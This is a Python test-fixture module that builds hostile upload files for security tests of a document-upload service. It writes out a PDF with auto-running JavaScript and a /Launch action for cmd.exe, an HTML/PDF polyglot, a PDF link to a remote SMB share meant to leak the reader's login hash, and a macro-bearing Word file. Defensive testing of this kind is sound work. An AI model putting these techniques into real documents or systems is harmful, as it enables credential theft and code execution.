"""Hostile and awkward upload files, built in memory (issue #15, findings 7 and 9).

The probe's class of attack as reusable factories: each returns the bytes a browser would send.
"""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

#: The real-world sample PDFs of the project (../shared/pdfs/README.md says what is odd in each).
SHARED_PDFS = Path(__file__).resolve().parents[3] / "shared" / "pdfs"

HTML = (
    b"<!DOCTYPE html><html><body><script>fetch('/akun/').then(r=>r.text())</script></body></html>"
)


def plain_pdf(pages: int = 1) -> bytes:
    """A small, valid, script-free PDF with text on each page."""
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    drawing = canvas.Canvas(out)
    for number in range(pages):
        drawing.drawString(72, 720, f"Surat pengantar, halaman {number + 1}")
        drawing.showPage()
    drawing.save()
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    """A PDF whose opening runs JavaScript (``/OpenAction``), with a ``/JavaScript`` name tree,
    a page ``/AA`` action, a link annotation that launches a program, and an embedded file."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
    script = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('pwned');"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    names = writer._root_object["/Names"]
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(script)])}
    )
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(script)})
    launch = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 100, 100)]),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/Launch"),
                    NameObject("/F"): TextStringObject("cmd.exe"),
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(launch)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def html_with_pdf_marker() -> bytes:
    """An HTML page carrying ``%PDF-`` and a whole PDF inside its first kilobyte: a lenient
    reader opens the PDF, a browser renders the page and runs its script."""
    return HTML + b"\n<!-- " + plain_pdf() + b" -->"


def png_of_size(width: int, height: int, *, rgba: bool = True) -> bytes:
    """A valid PNG of ``width`` × ``height`` black pixels, compressed row by row so building it
    needs no decoded image in memory (6300×6300 RGBA is about 150 KB)."""
    bands = 4 if rgba else 3
    row = b"\x00" + bytes(width * bands)
    packer = zlib.compressobj(9)
    chunks = [packer.compress(row) for _ in range(height)]
    idat = b"".join(chunks) + packer.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 6 if rgba else 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def truncated_pdf() -> bytes:
    """The first half of a real multi-page report (what an interrupted download leaves)."""
    data = (SHARED_PDFS / "M1_pdkids.pdf").read_bytes()
    return data[: len(data) // 3]


def _with_link_action(action: dict, *, chain_to_self: bool = False) -> bytes:
    """``plain_pdf()`` with one link annotation on its page running ``action``; with
    ``chain_to_self`` the action's ``/Next`` points back at the action itself."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
    body = DictionaryObject({NameObject(k): v for k, v in action.items()})
    ref = writer._add_object(body)
    if chain_to_self:
        body[NameObject("/Next")] = ref
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 100, 100)]),
            NameObject("/A"): ref,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_remote_goto() -> bytes:
    """A link that opens a file on a remote share (the reader sends the officer's login hash)."""
    from pypdf.generic import NameObject, NumberObject, TextStringObject

    return _with_link_action(
        {
            "/S": NameObject("/GoToR"),
            "/F": TextStringObject("\\\\10.0.0.66\\share\\a.pdf"),
            "/D": NumberObject(0),
        }
    )


def pdf_with_action_cycle() -> bytes:
    """A harmless web link whose ``/Next`` chain points back at itself."""
    from pypdf.generic import NameObject, TextStringObject

    return _with_link_action(
        {"/S": NameObject("/URI"), "/URI": TextStringObject("https://bps.go.id/")},
        chain_to_self=True,
    )


def docx_with_macros() -> bytes:
    """A Word document carrying a VBA project (a ``.docm`` renamed ``.docx``)."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 AutoOpen Shell")
    return out.getvalue()
